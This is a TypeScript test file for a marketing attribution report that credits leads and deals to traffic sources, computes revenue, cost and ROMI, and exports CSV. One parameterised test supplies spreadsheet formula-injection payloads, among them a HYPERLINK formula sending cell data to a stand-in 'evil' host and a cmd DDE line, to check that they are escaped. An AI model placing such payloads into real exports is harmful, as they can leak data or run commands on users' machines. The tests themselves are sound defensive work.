import { describe, expect, it } from "vitest";
import { MODELS } from "../../worker/domain/attribution";
import { creditRows } from "../../worker/domain/attribution-credits";
import { buildReport, currencyOrder, periodDays, rangeInstants, type DealOutcome, type GroupCredit } from "../../worker/domain/attribution-report";
import type { Journey, SessionTouch } from "../../worker/domain/touchpoints";
import { csvField, reportCells, renderReportCsv } from "../../worker/routes/bitrix-report-page";
import { messagesFor } from "../../worker/i18n";

const DAY = 86_400_000;
const created = new Date("2026-11-20T12:00:00Z");

function visit(daysBefore: number, source: string | null, campaignId: string | null = null): SessionTouch {
  return {
    type: "session",
    at: new Date(created.getTime() - daysBefore * DAY).toISOString(),
    sessionId: `s${daysBefore}`,
    channel: source ? "paid" : "direct",
    source: null,
    utm: { source, medium: source ? "cpc" : null, campaign: null, content: null, term: null },
    referrer: null,
    entrancePage: null,
    campaignId,
    campaignName: campaignId ? `Campaign ${campaignId}` : null,
    siteId: "77",
  };
}
const journey = (touchpoints: SessionTouch[]): Journey => ({ visitorId: "1", fetchedAt: created.toISOString(), touchpoints });

/** Seeded conversions: lead id → its visits. */
const SEEDED: Record<string, SessionTouch[]> = {
  "1": [visit(10, "google", "5"), visit(3, null), visit(1, "yandex", "6")],
  "2": [visit(2, "yandex", "6")],
  "3": [visit(20, "google", "5"), visit(5, "vk")],
  "4": [],
};
const DEALS: DealOutcome[] = [
  { entityId: "1", dealId: "100", semantic: "S", amount: 90_000, currency: "RUB" },
  { entityId: "2", dealId: "101", semantic: "S", amount: 1_000, currency: "USD" },
  { entityId: "3", dealId: "102", semantic: "F", amount: 5_000, currency: "RUB" },
];

/** What the D1 query returns: each conversion's share per group (utm_source here). */
function creditsUnder(model: (typeof MODELS)[number]): GroupCredit[] {
  return Object.entries(SEEDED).flatMap(([id, visits]) => {
    const byGroup = new Map<string | null, number>();
    for (const row of creditRows(journey(visits), created)) byGroup.set(row.utmSource, (byGroup.get(row.utmSource) ?? 0) + row.shares[model]);
    return [...byGroup].filter(([, share]) => share > 0).map(([key, share]) => ({ entityId: id, key, label: key, share }));
  });
}

describe("the attribution report's figures", () => {
  it.each(MODELS)("under %s, the credits of all groups add up to the number of leads", (model) => {
    const report = buildReport(creditsUnder(model), DEALS, null);
    expect(report.rows.reduce((sum, r) => sum + r.conversions, 0)).toBeCloseTo(4, 9);
    expect(report.total.conversions).toBe(4);
    expect(report.total.deals).toBe(3);
    expect(report.total.won).toBe(2);
  });

  it("splits a won deal's revenue by the lead's credit, and keeps currencies apart", () => {
    const report = buildReport(creditsUnder("linear"), DEALS, null);
    const google = report.rows.find((r) => r.key === "google");
    const yandex = report.rows.find((r) => r.key === "yandex");
    // Lead 1 had three visits (google, direct, yandex): a third of 90,000 each. Lead 2's USD is its own.
    expect(google?.revenue).toEqual({ RUB: 30_000 });
    expect(yandex?.revenue.RUB).toBeCloseTo(30_000, 6);
    expect(yandex?.revenue.USD).toBe(1_000);
    expect(report.total.revenue).toEqual({ RUB: 90_000, USD: 1_000 });
  });

  it("a lead without a visit before it was created still counts once, in a group of its own", () => {
    const rows = creditRows(journey([visit(-1, "google")]), created);
    expect(rows).toHaveLength(1);
    expect(rows[0]?.utmSource).toBeNull();
    expect(Object.values(rows[0]?.shares ?? {})).toEqual(MODELS.map(() => 1));
  });

  it("adds ad cost per CoMagic campaign, cost per lead and ROMI in one currency; groups without cost have none", () => {
    const credits: GroupCredit[] = [
      { entityId: "1", key: "5", label: "Campaign 5", share: 1 },
      { entityId: "2", key: null, label: null, share: 1 },
    ];
    const report = buildReport(credits, DEALS, [
      { key: "5", label: "Campaign 5", currency: "RUB", cost: 30_000 },
      { key: "9", label: "Spent, no leads", currency: "RUB", cost: 500 },
    ]);
    const five = report.rows.find((r) => r.key === "5");
    expect(five).toMatchObject({ cost: { RUB: 30_000 }, costPerConversion: 30_000, costPerWon: 30_000, romi: 2 });
    expect(report.rows.find((r) => r.key === null)).toMatchObject({ cost: null, costPerConversion: null, romi: null });
    expect(report.rows.find((r) => r.key === "9")).toMatchObject({ conversions: 0, cost: { RUB: 500 } });
    // Revenue in USD against cost in RUB: no ROMI, never a sum of both.
    expect(report.total.romi).toBeNull();
  });

  it("on a portal without leads, counts the contacts the worker made with the deals, credited like the deals", () => {
    const credits: GroupCredit[] = [
      { entityId: "10", key: "google", label: "google", share: 0.5, madeContact: true },
      { entityId: "10", key: "yandex", label: "yandex", share: 0.5, madeContact: true },
      { entityId: "11", key: "google", label: "google", share: 1, madeContact: false },
    ];
    const report = buildReport(credits, [], null);
    expect(report.rows.find((r) => r.key === "google")).toMatchObject({ conversions: 1.5, contacts: 0.5 });
    expect(report.total).toMatchObject({ conversions: 2, contacts: 1 });
    const filters = { period: "30d" as const, days: { from: "2026-11-01", to: "2026-11-30" }, model: "linear" as const, grouping: "utm_source" as const, entity: "deal" as const };
    const csv = renderReportCsv(report, filters, "en", messagesFor("en"))
      .replace(/^\uFEFF/, "")
      .split("\r\n");
    expect(csv[0]?.startsWith("Group,New deals,Contacts made,Deals,Won,")).toBe(true);
    expect(csv.at(-2)?.startsWith("Total,2,1,")).toBe(true);
    // Leads' portals make no contacts: no such column.
    expect(renderReportCsv(report, { ...filters, entity: "lead" }, "en", messagesFor("en"))).not.toContain("Contacts made");
  });

  it("writes the same cells into the CSV as into the table, with a BOM, ';' between them for Russian Excel, and '—' where cost is unknown", () => {
    const report = buildReport([{ entityId: "1", key: "5", label: "Кампания «Диваны»", share: 1 }], DEALS, []);
    const filters = { period: "30d" as const, days: { from: "2026-11-01", to: "2026-11-30" }, model: "linear" as const, grouping: "comagic_campaign" as const, entity: "lead" as const };
    const csv = renderReportCsv(report, filters, "ru", messagesFor("ru"));
    expect(csv.startsWith("\uFEFFГруппа;Лиды;")).toBe(true);
    const cells = reportCells(report, filters, "ru", messagesFor("ru"));
    expect(csv.split("\r\n")[1]).toBe(cells[0]?.map((c) => c.text).join(";"));
    expect(cells[0]?.[7]?.text).toBe("—");
  });

  it("reads presets in the account's calendar: last month is whole, 7 days end today", () => {
    const now = new Date("2026-12-01T22:30:00Z"); // already 2 December in Moscow
    expect(periodDays("7d", now, "Europe/Moscow")).toEqual({ from: "2026-11-26", to: "2026-12-02" });
    expect(periodDays("last_month", now, "Europe/Moscow")).toEqual({ from: "2026-11-01", to: "2026-11-30" });
    expect(periodDays("custom", now, "Europe/Moscow", { from: "2026-11-10", to: "2026-11-01" })).toEqual({ from: "2026-11-10", to: "2026-11-10" });
    expect(rangeInstants({ from: "2026-11-01", to: "2026-11-30" }, "Europe/Moscow")).toEqual({ from: new Date("2026-10-31T21:00:00Z"), to: new Date("2026-11-30T21:00:00Z") });
  });

  it.each([
    ['=HYPERLINK("https://evil/?"&A3,"Open")', `"'=HYPERLINK(""https://evil/?""&A3,""Open"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ["google", "google"],
    ["a=b", "a=b"],
  ])("writes the group name %j into the CSV as %s", (text, cell) => {
    expect(csvField({ text, figure: false })).toBe(cell);
  });

  it("leaves the worker's own figures as they are, a negative ROMI included", () => {
    expect(csvField({ text: "-100%", figure: true })).toBe("-100%");
  });

  it("orders currencies by how many groups carry them (revenue or cost), then by code", () => {
    const report = buildReport(
      [
        { entityId: "1", key: "a", label: "a", share: 1 },
        { entityId: "2", key: "b", label: "b", share: 1 },
        { entityId: "3", key: "c", label: "c", share: 1 },
      ],
      [
        { entityId: "1", dealId: "1", semantic: "S", amount: 1_000_000, currency: "USD" },
        { entityId: "2", dealId: "2", semantic: "S", amount: 10, currency: "RUB" },
      ],
      [{ key: "c", label: "c", currency: "RUB", cost: 5 }],
    );
    expect(currencyOrder(report)).toEqual(["RUB", "USD"]);
  });

  it("shows shares with two decimals, so a lead's four linear quarters read 0.25 and add up to 1", () => {
    const credits: GroupCredit[] = ["a", "b", "c", "d"].map((key) => ({ entityId: "1", key, label: key, share: 0.25 }));
    const filters = { period: "30d" as const, days: { from: "2026-11-01", to: "2026-11-30" }, model: "linear" as const, grouping: "utm_source" as const, entity: "lead" as const };
    const cells = reportCells(buildReport(credits, [], null), filters, "en", messagesFor("en"));
    expect(cells.slice(0, 4).map((row) => row[1]?.text)).toEqual(["0.25", "0.25", "0.25", "0.25"]);
    expect(cells.at(-1)?.[1]?.text).toBe("1");
  });
});
